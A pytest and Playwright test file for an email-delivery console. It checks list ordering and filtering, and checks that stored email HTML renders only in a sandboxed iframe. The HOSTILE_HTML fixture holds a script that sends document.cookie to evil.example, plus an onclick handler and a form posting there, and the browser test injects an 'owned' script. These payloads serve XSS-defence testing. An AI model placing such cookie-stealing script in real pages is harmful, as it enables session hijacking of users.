"""The Deliveries pages: every message, newest first and by status, and one delivery exactly as
sent — its HTML body only inside a sandboxed iframe, so an email's HTML never runs in the console."""

from __future__ import annotations

from datetime import UTC, datetime
from html.parser import HTMLParser

import pytest
from playwright.async_api import expect

from domain.enums import Role
from models import Delivery
from tests.api.test_delivery_detail import engine_sends_first_reminder
from tests.console.conftest import Console, signed_in_page

SENT_AT = datetime(2026, 1, 1, 14, 30, tzinfo=UTC)
HOSTILE_HTML = (
    '<p onclick="steal()">Please pay &amp; thank you</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<form action="https://evil.example"><input name="q"></form>'
)


class Frames(HTMLParser):
    """Every <iframe>'s attributes, and whether any <script> outside the console's own htmx runs."""

    def __init__(self) -> None:
        super().__init__()
        self.frames: list[dict[str, str | None]] = []
        self.scripts: list[dict[str, str | None]] = []
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "iframe":
            self.frames.append(dict(attrs))
        if tag == "script":
            self.scripts.append(dict(attrs))
        self.handlers += [name for name, _ in attrs if name.startswith("on")]


def frames_of(html: str) -> Frames:
    parser = Frames()
    parser.feed(html)
    return parser


async def stored_deliveries(console: Console) -> tuple[int, int]:
    """A sent email with hostile HTML and a failed one, for one customer: their ids."""
    customer = await console.api.customer()
    async with console.api.sessions() as session:
        sent = Delivery(
            idempotency_key="k1",
            occurrence_key="o1",
            customer_id=customer["id"],
            channel="email",
            recipients=[{"address": "ap@globex.example", "name": "Jane"}],
            subject="Invoice INV-1042 is due",
            html_body=HOSTILE_HTML,
            text_body="Please pay & thank you",
            attachments=[{"filename": "INV-1042.pdf"}],
            provider="sendgrid",
            provider_message_id="msg1Xy7",
            status="sent",
            attempts=1,
            created_at=SENT_AT,
            updated_at=SENT_AT,
            sent_at=SENT_AT,
        )
        failed = Delivery(
            idempotency_key="k2",
            occurrence_key="o2",
            customer_id=customer["id"],
            channel="email",
            recipients=[{"address": "ar@globex.example"}],
            subject="Second reminder",
            text_body="Hello",
            status="failed",
            last_error="mailbox unavailable",
        )
        session.add_all([sent, failed])
        await session.commit()
        assert sent.id is not None and failed.id is not None
        return sent.id, failed.id


async def test_the_delivery_list_is_newest_first_and_filters_by_status(console: Console) -> None:
    sent, _ = await stored_deliveries(console)
    browser = await console.sign_in(Role.SUPPORT)
    page = (await browser.get("/console/deliveries")).text
    assert "2 deliveries" in page and page.index("Second reminder") < page.index("Invoice INV-1042 is due")
    assert f'href="/console/deliveries/{sent}"' in page and "Globex" in page and "ap@globex.example" in page
    only_failed = (await browser.get("/console/deliveries", params={"status": "failed"})).text
    assert "Second reminder" in only_failed and "Invoice INV-1042 is due" not in only_failed
    assert '<option value="failed" selected>' in only_failed
    none = (await browser.get("/console/deliveries", params={"status": "bounced"})).text
    assert "No delivery has the status “bounced”" in none
    bad = await browser.get("/console/deliveries", params={"status": "lost"})
    assert bad.status_code == 422
    other = await console.api.customer("QB-2", name="Initech")
    of_initech = (await browser.get("/console/deliveries", params={"customer": other["id"]})).text
    assert (
        "Deliveries to Initech" in of_initech and "Nothing has been sent to this customer yet" in of_initech
    )
    customer_id = (await console.api.ok("GET", f"/deliveries/{sent}"))["customer_id"]
    of_globex = (await browser.get("/console/deliveries", params={"customer": customer_id})).text
    assert "Deliveries to Globex" in of_globex and "2 deliveries" in of_globex
    customer_page = (await browser.get(f"/console/customers/{customer_id}")).text
    assert f'href="/console/deliveries?customer={customer_id}">Messages sent to Globex' in customer_page


async def test_an_empty_delivery_list_says_when_deliveries_appear(console: Console) -> None:
    browser = await console.sign_in(Role.VIEWER)
    assert "Nothing has been sent yet" in (await browser.get("/console/deliveries")).text


async def test_a_deliverys_html_body_is_shown_only_inside_a_sandboxed_iframe(console: Console) -> None:
    sent, _ = await stored_deliveries(console)
    browser = await console.sign_in(Role.VIEWER)
    response = await browser.get(f"/console/deliveries/{sent}")
    assert response.status_code == 200
    page = frames_of(response.text)
    (frame,) = page.frames
    assert frame["sandbox"] == "" and frame["srcdoc"] == HOSTILE_HTML and frame["title"]
    # Nothing of the email runs in the console's own document: no script but htmx, no handler.
    assert [s.get("src") for s in page.scripts] == ["/console/static/vendor/htmx.min.js"]
    assert page.handlers == []
    assert "<script>document.location" not in response.text and "&lt;script&gt;" in response.text


async def test_a_deliverys_page_shows_exactly_what_was_sent_and_its_status_history(console: Console) -> None:
    sent, failed = await stored_deliveries(console)
    browser = await console.sign_in(Role.VIEWER)
    page = (await browser.get(f"/console/deliveries/{sent}")).text
    assert "Invoice INV-1042 is due" in page and "Jane &lt;ap@globex.example&gt;" in page
    assert '<pre class="body">Please pay &amp; thank you</pre>' in page
    assert "INV-1042.pdf" in page and "sendgrid (msg1Xy7)" in page
    assert "Status history" in page and "accepted by sendgrid as msg1Xy7" in page
    other = (await browser.get(f"/console/deliveries/{failed}")).text
    assert "mailbox unavailable" in other and "This message had no HTML body" in other
    assert frames_of(other).frames == []
    missing = await browser.get("/console/deliveries/999999")
    assert missing.status_code == 404 and "delivery 999999 does not exist" in missing.text


async def test_a_reminder_the_engine_sent_is_read_back_in_the_console_as_sent(console: Console) -> None:
    delivery_id, message = await engine_sends_first_reminder(console.api)
    browser = await console.sign_in(Role.SUPPORT)
    response = await browser.get(f"/console/deliveries/{delivery_id}")
    (frame,) = frames_of(response.text).frames
    assert frame["sandbox"] == "" and frame["srcdoc"] == message.html_body
    assert message.subject is not None and message.subject in response.text
    assert f"outbox-{message.id}" in response.text
    listed = (await browser.get("/console/deliveries", params={"status": "sent"})).text
    assert f'href="/console/deliveries/{delivery_id}"' in listed


@pytest.mark.e2e
@pytest.mark.slow
async def test_in_the_browser_an_emails_script_does_not_run_in_the_console(
    chromium: str, console: Console, served: str
) -> None:
    customer = await console.api.customer()
    hostile = (
        "<p>Please pay INV-1042</p>"
        "<script>parent.document.title = 'owned'; document.body.append('script ran')</script>"
    )
    async with console.api.sessions() as session:
        row = Delivery(
            idempotency_key="k-browser",
            occurrence_key="o-browser",
            customer_id=customer["id"],
            channel="email",
            recipients=[{"address": "ap@globex.example"}],
            subject="Invoice INV-1042",
            html_body=hostile,
            text_body="Please pay INV-1042",
            status="sent",
        )
        session.add(row)
        await session.commit()
        delivery_id = row.id
    async with signed_in_page(chromium, served, console.api.keys[Role.SUPPORT]) as page:
        await page.get_by_role("link", name="Deliveries").click()
        await page.get_by_role("link", name="Invoice INV-1042").click()
        email = page.frame_locator("iframe.email")
        await expect(email.get_by_text("Please pay INV-1042")).to_be_visible()  # rendered...
        await expect(email.get_by_text("script ran")).to_have_count(0)  # ...but its script never ran
        assert await page.title() == "Delivery " + str(delivery_id) + " · arcadence console"
